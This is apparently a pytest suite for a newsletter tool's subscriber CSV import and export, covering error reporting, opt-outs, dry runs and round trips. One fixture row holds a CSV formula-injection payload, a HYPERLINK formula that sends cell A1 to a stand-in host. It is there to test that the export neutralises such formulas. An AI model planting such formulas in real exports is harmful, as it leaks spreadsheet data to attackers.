"""CSV import and export: every bad row named with its line, the good rows in, opt-outs respected,
and a lossless round trip."""

from __future__ import annotations

import json

import pytest

CSV_HEADER = "email,name,topics,frequency,timezone\n"


@pytest.fixture
def db(run):
    assert run("init").exit_code == 0
    return run


def emails(run, status=None):
    args = ["subscribers", "list", "--json"] + (["--status", status] if status else [])
    return {s["email"]: s for s in json.loads(run(*args).stdout)}


def test_every_bad_row_is_named_and_the_good_rows_are_imported(db, tmp_path):
    run = db
    run("subscribers", "add", "gone@example.org", "--topic", "World")
    run("subscribers", "unsubscribe", "gone@example.org")
    f = tmp_path / "list.csv"
    f.write_bytes((
        CSV_HEADER
        + "ada@Example.ORG,Ada,Europe,daily,Europe/Berlin\n"          # 2 ok, domain lower-cased
        + "not-an-address,Bad,World,,\n"                              # 3 invalid address
        + "cy@example.org,Cy,Sports,,\n"                              # 4 unknown topic
        + "dee@example.org,Dee,World,hourly,\n"                       # 5 bad frequency
        + "eve@example.org,Eve,World,,Mars/Olympus\n"                 # 6 bad timezone
        + "fay@example.org,Fay,,,\n"                                  # 7 no topics
        + "ADA@example.org,,Politics;World,,\n"                       # 8 duplicate: merged
        + "gone@example.org,Gone,Europe,,\n"                          # 9 unsubscribed: skipped
        + "hal@example.org,Hal,\"Europe; politics\",weekly,\n"        # 10 ok, topic by slug
    ).encode() + "ivo@example.org,Iv\u00f6,World,,\n".encode("latin-1"))  # 11 not UTF-8
    r = run("subscribers", "import", f)
    assert r.exit_code == 1
    errors = [ln for ln in r.stderr.splitlines() if ln.startswith("Error:")]
    assert [e.split(":")[2] for e in errors] == ["3", "4", "5", "6", "7", "11"], r.stderr
    assert "not-an-address" in errors[0] and 'topic "Sports" does not exist. Known topics' in errors[1]
    assert "hourly" in errors[2] and "Mars/Olympus" in errors[3] and "no topics" in errors[4]
    assert "not UTF-8" in errors[5]
    assert "2 new, 0 updated, 1 skipped (opted out), 1 duplicates merged, 6 failed" in r.stderr
    subs = emails(run)
    assert set(subs) == {"ada@example.org", "hal@example.org", "gone@example.org"}
    ada = subs["ada@example.org"]
    assert ada["topics"] == ["Europe", "Politics", "World"] and ada["name"] == "Ada"
    assert ada["timezone"] == "Europe/Berlin"
    assert subs["hal@example.org"]["topics"] == ["Europe", "Politics"] and subs["hal@example.org"]["frequency"] == "weekly"
    gone = subs["gone@example.org"]
    assert gone["status"] == "unsubscribed" and gone["topics"] == ["World"]   # never re-subscribed


def test_a_latin1_file_fails_only_its_non_ascii_rows(db, tmp_path):
    f = tmp_path / "latin1.csv"
    f.write_bytes((CSV_HEADER + "zoe@example.org,Zo\u00eb,World,,\nab@example.org,Ab,World,,\n").encode("latin-1"))
    r = db("subscribers", "import", f)
    assert r.exit_code == 1
    assert f"{f}:2: not UTF-8" in r.stderr and "save the file as UTF-8" in r.stderr
    assert set(emails(db)) == {"ab@example.org"}


def test_a_file_without_an_email_column_imports_nothing(db, tmp_path):
    f = tmp_path / "nocol.csv"
    f.write_text("address,name,topics\nada@example.org,Ada,World\n")
    r = db("subscribers", "import", f)
    assert r.exit_code == 1 and f"{f}:1: no `email` column" in r.stderr
    assert emails(db) == {}


def test_dry_run_reports_and_writes_nothing(db, tmp_path):
    db("subscribers", "add", "old@example.org", "--topic", "World")
    f = tmp_path / "list.csv"
    f.write_text(CSV_HEADER + "new@example.org,New,World,,\nold@example.org,Old,Europe,,\n")
    r = db("subscribers", "import", f, "--dry-run")
    assert r.exit_code == 0 and "would import 1 new, 1 updated" in r.stderr
    subs = emails(db)
    assert set(subs) == {"old@example.org"} and subs["old@example.org"]["topics"] == ["World"]


def test_suppressed_and_bounced_addresses_are_skipped_too(db, tmp_path):
    db("subscribers", "suppress", "never@example.org")
    f = tmp_path / "list.csv"
    f.write_text(CSV_HEADER + "never@example.org,Never,World,,\n")
    r = db("subscribers", "import", f)
    assert r.exit_code == 0 and "1 skipped" in r.stderr
    assert emails(db)["never@example.org"]["status"] == "suppressed"


def test_export_round_trips_through_import_unchanged(db, tmp_path, monkeypatch):
    run = db
    f = tmp_path / "list.csv"
    f.write_text(CSV_HEADER
                 + 'ada@example.org,"Lovelace, Ada",Europe;World,weekly,Europe/London\n'
                 + 'mal@example.org,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",World,,\n'
                 + "q@example.org,'quoted,Politics,daily,\n"
                 + "neg@example.org,-5 ways,Politics,,America/New_York\n")
    assert run("subscribers", "import", f).exit_code == 0
    run("subscribers", "add", "bye@example.org", "--topic", "Europe")
    run("subscribers", "unsubscribe", "bye@example.org")
    first = run("subscribers", "export")
    assert first.exit_code == 0 and "Exported 5 subscribers" in first.stderr
    # A spreadsheet would run these as formulas: the export defuses them with one apostrophe.
    assert "'=HYPERLINK(" in first.stdout and "'-5 ways" in first.stdout
    for line in first.stdout.splitlines()[1:]:
        assert line.split(",")[1][:1] not in ("=", "+", "-", "@")
    (tmp_path / "export.csv").write_text(first.stdout)

    monkeypatch.setenv("DIGEST_DB", str(tmp_path / "fresh.db"))
    assert run("init").exit_code == 0
    r = run("subscribers", "import", tmp_path / "export.csv")
    assert r.exit_code == 0, r
    assert emails(run)["mal@example.org"]["name"].startswith('=HYPERLINK("http://evil.example')
    assert emails(run)["q@example.org"]["name"] == "'quoted"
    assert emails(run)["bye@example.org"]["status"] == "unsubscribed"
    assert run("subscribers", "export").stdout == first.stdout


def test_export_filters_by_topic(db, tmp_path):
    db("subscribers", "add", "a@example.org", "--topic", "Europe")
    db("subscribers", "add", "b@example.org", "--topic", "World")
    out = db("subscribers", "export", "--topic", "Europe").stdout.splitlines()
    assert out == ["email,name,topics,frequency,timezone,status", "a@example.org,,Europe,daily,,active"]


@pytest.mark.slow
def test_a_large_import_is_batched_and_complete(db, tmp_path):
    n = 20_000
    f = tmp_path / "big.csv"
    f.write_text(CSV_HEADER + "".join(f"user{i}@Example.org,User {i},World;Europe,,\n" for i in range(n)))
    r = db("subscribers", "import", f)
    assert r.exit_code == 0 and f"{n} new" in r.stderr
    assert len(db("subscribers", "export", "--topic", "Europe").stdout.splitlines()) == n + 1


def test_the_fast_address_check_agrees_with_email_validator():
    from email_validator import EmailNotValidError, validate_email

    from digest.errors import InvalidAddress
    from digest.subscribers import normalize_email

    def full(a):
        try:
            local, _, domain = validate_email(a, check_deliverability=False).normalized.rpartition("@")
            # ...except a local part that is not ASCII, refused on purpose: it would need SMTPUTF8.
            return f"{local}@{domain.lower()}" if local.isascii() else None
        except EmailNotValidError:
            return None

    def ours(a):
        try:
            return normalize_email(a)
        except InvalidAddress:
            return None

    cases = ["a@Example.ORG", "a..b@x.org", ".a@x.org", "a.@x.org", "a@localhost", "a@x.invalid", "a@x",
             "a@-x.org", "a@x_y.org", "a@bücher.example", "ä@x.org", '"a b"@x.org', "x" * 65 + "@x.org",
             "a@x.org.", "=x@x.org", "a@b@c.org", "@x.org", "a@", "a@x..org", "a@1.2.3.4", "a@x.test",
             "x" * 64 + "@" + "y" * 63 + "." + "z" * 63 + "." + "w" * 63 + ".org"]
    assert [ours(a) for a in cases] == [full(a) for a in cases]
